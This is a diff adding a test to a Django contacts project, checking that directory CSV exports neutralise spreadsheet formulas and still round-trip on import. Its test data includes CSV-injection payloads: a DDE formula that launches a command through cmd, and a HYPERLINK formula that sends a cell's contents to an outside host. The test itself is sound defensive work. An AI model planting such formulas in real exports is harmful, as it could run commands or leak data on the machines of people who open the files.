@@ -1,11 +1,16 @@
 """Importing the directory into the database: upsert by code, all or nothing."""
 
+import csv
+import io
+
 import pytest
 from django.core.management import CommandError, call_command
 from django.urls import reverse
 
 from contacts.directory_csv import DirectoryImportError, export_directory, import_directory
 from contacts.models import Community
+from core import csv_safety
+from importers import directory_csv
 from importers.directory_csv import HEADERS, DirectoryFileError
 from tests.support import DATA
 
@@ -55,6 +60,46 @@ def test_export_then_import_is_a_no_op_for_the_whole_directory():
     total = Community.objects.count()
     report = import_directory(export_directory())
     assert (len(report.created), len(report.updated), report.unchanged) == (0, 0, total)
+
+
+HOSTILE = {
+    "name": "=cmd|' /C calc'!A0",
+    "aliases": "+1+1",
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "manager_name": '=HYPERLINK("http://x.cn/?"&A1)',
+    "manager_phone": "+86 431 0000 5511",
+}
+
+
+def cells(data: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+
+
+def test_exports_neutralise_formulas_and_import_them_back_unchanged(tmp_path):
+    """CSV injection: a spreadsheet runs a cell starting with = + - @ as a formula. The export
+    puts an apostrophe before it (shown as text); the import drops it again, so the export
+    still round-trips: importing it changes nothing, and what it restores is the exact text."""
+    community = Community.objects.order_by("code").first()
+    Community.objects.filter(pk=community.pk).update(**HOSTILE)
+    exported = export_directory()
+    call_command("export_contacts", str(tmp_path / "directory.csv"))
+    for data in (exported, (tmp_path / "directory.csv").read_bytes()):
+        assert not [cell for cell in cells(data) if cell.startswith(("=", "+", "-", "@"))]
+        for value in HOSTILE.values():
+            assert "'" + value in cells(data)
+
+    report = import_directory(exported)
+    assert (report.created, report.updated) == ([], [])
+    Community.objects.filter(pk=community.pk).update(
+        **{field: "改过" for field in HOSTILE if field != "manager_phone"}, manager_phone=""
+    )
+    assert import_directory(exported).updated == [community.code]
+    community.refresh_from_db()
+    assert {field: getattr(community, field) for field in HOSTILE} == HOSTILE
+
+
+def test_the_parser_knows_every_formula_start_the_export_neutralises():
+    assert directory_csv.FORMULA_STARTS == csv_safety.FORMULA_STARTS
 
 
 def test_management_command_reports_success_and_failure(capsys):
